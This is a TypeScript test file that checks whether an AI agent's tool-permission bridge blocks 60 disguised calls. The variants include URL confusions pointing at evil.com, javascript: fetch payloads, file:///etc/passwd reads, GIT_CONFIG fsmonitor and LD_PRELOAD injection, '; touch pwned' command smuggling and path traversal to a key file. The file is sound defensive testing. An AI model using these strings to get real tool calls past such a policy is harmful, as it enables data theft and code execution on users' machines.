// What of the hub's tools leaves unasked through a real OpenAI client: calls that look like what a rule allows, and go
// elsewhere or do more.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { Home, type RunningBridge } from '../support/program.ts';

const session = 'unasked';
let home: Home;
let inside: string;
let outside: string;
beforeEach(() => {
  home = new Home();
  mkdirSync(join(home.cwd, 'inside'));
  inside = join(home.cwd, 'inside/photo.png');
  outside = join(home.path, 'id_key');
  for (const file of [inside, outside]) writeFileSync(file, '');
  home.configure({
    limits: { messagesPerMinute: 1_000 },
    policy: [
      { tool: 'web_fetch', host: 'good.com', decision: 'allow' },
      { tool: 'exec', command: 'git status', decision: 'allow' },
      { tool: 'message', path: join(home.cwd, 'inside'), decision: 'allow' },
    ],
  });
});
afterEach(() => home[Symbol.asyncDispose]());

type Call = readonly [tool: string, input: object];

const tools = ['web_fetch', 'exec', 'message'].map((name) => ({
  type: 'function' as const,
  function: { name, parameters: { type: 'object', properties: {} } },
}));

/** Has Claude make the call. @returns whether it left for the hub without a question */
async function leaves(bridge: RunningBridge, [tool, input]: Call): Promise<boolean> {
  const { chat } = bridge.client(session);
  const said = async (content: string) => {
    const messages = [{ role: 'user' as const, content }];
    return (await chat.completions.create({ model: 'claude', tools, messages })).choices[0];
  };
  const choice = await said(`[[tool:${tool} ${JSON.stringify(input)}]]`);
  const [called] = choice?.message.tool_calls ?? [];
  if (called) {
    const answer = { role: 'tool' as const, tool_call_id: called.id, content: 'it ran' };
    const asked = { role: 'assistant' as const, content: null, tool_calls: [called] };
    await chat.completions.create({ model: 'claude', tools, messages: [asked, answer] });
    return true;
  }
  // A question, or a denial in words: either way it is over before the next call.
  const [, code] = /`yes ([a-km-z]{5})/.exec(choice?.message.content ?? '') ?? [];
  expect([input, code ?? choice?.message.content]).toEqual([
    input,
    expect.stringMatching(/^[a-z]{5}$|denied/i),
  ]);
  if (code !== undefined) await said(`no ${code}`);
  return false;
}

const url = (text: string): Call => ['web_fetch', { url: text }];
const fetching = (extra: object): Call => ['web_fetch', { url: 'https://good.com/', ...extra }];
const status = (extra: object): Call => ['exec', { command: 'git status', ...extra }];
const sending = (extra: object): Call => ['message', { path: inside, ...extra }];

const hosts: readonly Call[] = [
  'https:/evil.com://good.com',
  'https:evil.com/x://good.com/',
  'http:evil.com://good.com',
  'https:///evil.com/://good.com/',
  'https:\\\\evil.com\\://good.com/',
  'https:/\\evil.com/://good.com',
  'ht\ttps:/evil.com://good.com',
  ' https:/evil.com://good.com',
  'https://good.com@evil.com/',
  'https://good.com:443@evil.com/',
  'https://evil.com\\@good.com/',
  'https://evil.com#@good.com/',
  'https://evil.com?@good.com/',
  'https://evil.com/https://good.com/',
  'https://good.com.evil.com/',
  'https://evilgood.com/',
  'https://good.com%2eevil.com/',
  'https://good.com\u3002evil.com/',
  'javascript:fetch("https://evil.com")//://good.com/',
  'javascript://good.com/%0afetch("https://evil.com")',
  'data:text/html,<script src=https://evil.com></script>://good.com/',
  'file:///etc/passwd',
  'file://good.com/etc/passwd',
  'file:/etc/passwd://good.com',
  'ftp://good.com/x',
  'gopher://good.com/x',
  'view-source:file:///etc/passwd://good.com',
  'blob:https://evil.com/://good.com',
].map(url);

const besideHost = (): readonly Call[] => [
  fetching({ urls: ['https://evil.com/'] }),
  fetching({ uri: 'https://evil.com/' }),
  fetching({ href: 'https://evil.com/' }),
  fetching({ request: { url: 'https://evil.com/' } }),
  fetching({ proxy: 'http://evil.com:3128' }),
  fetching({ path: outside }),
];

const besideCommand = (): readonly Call[] => [
  status({
    env: { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.fsmonitor', GIT_CONFIG_VALUE_0: 'touch pwned' },
  }),
  status({ env: { PATH: '/tmp/x' } }),
  status({ env: { LD_PRELOAD: '/tmp/x.so' } }),
  status({ env: [{ name: 'PATH', value: '/tmp/x' }] }),
  status({ environment: { PATH: '/tmp/x' } }),
  status({ elevated: true }),
  status({ elevated: 'full' }),
  status({ host: 'node' }),
  status({ host: 'gateway', security: 'full' }),
  status({ node: 'laptop' }),
  status({ ask: 'off' }),
  status({ workdir: '/tmp/x' }),
  status({ cwd: '/tmp/x' }),
  status({ shell: '/tmp/x' }),
  status({ cmd: 'touch pwned' }),
  status({ args: ['; touch pwned'] }),
  status({ stdin: 'touch pwned\n' }),
  ['exec', { command: ['git', 'status', '; touch pwned'] }],
];

const besidePath = (): readonly Call[] => [
  sending({ media: outside }),
  sending({ mediaUrl: `file://${outside}` }),
  sending({ filePath: outside }),
  sending({ media: [inside, outside] }),
  sending({ attachments: [{ path: outside }] }),
  sending({ source: outside }),
  sending({ args: { path: outside } }),
  sending({ path: `${home.cwd}/inside/../../id_key` }),
];

test('what the rules allow leaves, and nothing of 60 calls that only look like it leaves unasked', async () => {
  const bridge = await home.up();
  const allowed: readonly Call[] = [url('https://good.com/a?b=c'), status({}), sending({})];
  for (const call of allowed) expect([call, await leaves(bridge, call)]).toEqual([call, true]);

  const variants = [...hosts, ...besideHost(), ...besideCommand(), ...besidePath()];
  expect(variants).toHaveLength(60);
  const unasked: Call[] = [];
  for (const call of variants) if (await leaves(bridge, call)) unasked.push(call);
  expect(unasked).toEqual([]);
});
